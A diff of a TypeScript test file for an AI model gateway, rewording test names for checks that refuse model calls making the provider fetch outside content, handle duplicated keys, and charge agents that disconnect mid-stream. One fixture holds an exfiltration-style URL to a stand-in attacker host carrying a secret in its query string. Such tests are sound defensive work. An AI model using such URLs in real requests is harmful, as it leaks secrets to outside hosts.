@@ -13,7 +13,7 @@ import { serving } from '../support/serving.ts';
 
 const HELLO = 'scenes: [{ name: hello, steps: [{ say: Hello. }] }]';
 
-describe('a call that would have the provider reach out', () => {
+describe('a model call that makes the provider reach out', () => {
   const fetched = { type: 'url', url: 'https://evil.example/?c=secret' };
   const image = (source: object) => ({ type: 'image', source });
   const said = (...content: object[]) => ({ messages: [{ role: 'user', content }] });
@@ -35,7 +35,7 @@ describe('a call that would have the provider reach out', () => {
     'a file for a container': said({ type: 'container_upload', file_id: 'f' }),
   };
 
-  it('A12: is refused, whatever the call names it', async () => {
+  it('A12: the gateway refuses every model call that makes the provider reach out', async () => {
     await using fixture = await gatewayFixture(HELLO);
     const held = await fixture.held();
     for (const [what, part] of Object.entries(outward)) {
@@ -49,7 +49,7 @@ describe('a call that would have the provider reach out', () => {
     assert.equal(fixture.model.requests.length, 0, 'nothing of it reached the provider');
   });
 
-  it('A12: is not one that brings what it shows and runs its tools itself', async () => {
+  it('A12: the gateway accepts a model call with inline content and local tools', async () => {
     await using provider = await providerThat((response) => {
       response.writeHead(200, JSON_TYPE).end(JSON.stringify({ usage: { output_tokens: 1 } }));
     });
@@ -70,7 +70,7 @@ describe('a call that would have the provider reach out', () => {
     assert.equal(status, 200);
   });
 
-  it('D28: is found in the call that the provider reads, also where a key stands twice', async () => {
+  it('D28: of a key that a model call has twice, the gateway forwards only the value that it checked', async () => {
     await using provider = await providerThat((response, body) => {
       assert.doesNotMatch(body, /evil/);
       response.writeHead(200, JSON_TYPE).end(JSON.stringify({ usage: { output_tokens: 1 } }));
@@ -83,8 +83,8 @@ describe('a call that would have the provider reach out', () => {
   });
 });
 
-describe('an agent that leaves before the end of the answer', () => {
-  it('D20: is charged for all of a stream', async () => {
+describe('an agent that disconnects before the end of the response', () => {
+  it('D20: an agent that disconnects during a stream is charged for all of it', async () => {
     const { promise: hasLeft, resolve: leave } = Promise.withResolvers<void>();
     await using provider = await providerThat(async (response) => {
       response.writeHead(200, { 'content-type': 'text/event-stream' });
@@ -106,7 +106,7 @@ describe('an agent that leaves before the end of the answer', () => {
     await spent(fixture, held, 5000);
   });
 
-  it('D20: sees nothing of an answer in one piece before it is charged for it', async () => {
+  it('D20: an agent receives nothing of an unstreamed response before it is charged', async () => {
     const { promise: isAsked, resolve: asked } = Promise.withResolvers<void>();
     const { promise: hasLeft, resolve: leave } = Promise.withResolvers<void>();
     await using provider = await providerThat(async (response) => {
